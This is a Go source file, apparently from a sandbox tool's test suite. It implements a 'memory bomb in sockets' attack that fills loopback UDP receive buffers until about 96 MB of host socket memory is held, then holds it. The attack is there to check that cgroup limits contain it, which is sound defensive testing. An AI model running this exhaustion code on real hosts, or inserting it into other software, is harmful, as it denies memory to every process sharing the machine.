package attacks

import (
	"fmt"
	"time"
	"unsafe"

	"github.com/seed-75010da9/jail/internal/ablation"
	"github.com/seed-75010da9/jail/jail"
	"golang.org/x/sys/unix"
)

// socketMemory: what lies in sockets is the host's memory as well.
func socketMemory() []Row {
	return []Row{
		{
			name: "memory bomb in sockets", source: "cgroup-v1/memory.rst 2.7: sockets are counted once they are limited",
			attack: func([]string) error { return fillSockets(96 << 20) },
			arena:  func(a *Arena) { a.Spec.Net, a.Spec.Limits.Memory = jail.NetLoopback, 48<<20 },
			walls:  []ablation.Wall{ablation.Cgroup}, skip: needsGroup, dies: true,
			harms: "it takes 96 MB of the memory that all sockets of the host share",
		},
	}
}

// fillSockets sends datagrams that nobody reads until the kernel holds so many
// bytes for them.
func fillSockets(want int) error {
	datagram := make([]byte, 60000)
	total := 0
	for range 500 {
		to, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_NONBLOCK, 0)
		if err != nil {
			return err
		}
		unix.SetsockoptInt(to, unix.SOL_SOCKET, unix.SO_RCVBUF, 1<<30) // what the host allows
		if err := unix.Bind(to, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}}); err != nil {
			return err
		}
		name, err := unix.Getsockname(to)
		if err != nil {
			return err
		}
		for before := -1; before != received(to); {
			before = received(to)
			unix.Sendto(to, datagram, 0, name)
		}
		if total += received(to); total >= want {
			// Whoever watches the box has a moment to notice: what matters is
			// memory that stays taken.
			time.Sleep(noticing)
			return nil
		}
	}
	return fmt.Errorf("%d bytes lie in sockets, wanted %d", total, want)
}

// received is the bytes in a socket's receive buffer, with the kernel's overhead
// (SO_MEMINFO, SK_MEMINFO_RMEM_ALLOC).
func received(fd int) int {
	var info [9]uint32
	size := uint32(unsafe.Sizeof(info))
	rawSyscall(unix.SYS_GETSOCKOPT, uintptr(fd), unix.SOL_SOCKET, unix.SO_MEMINFO, pointer(&info), pointer(&size))
	return int(info[0])
}
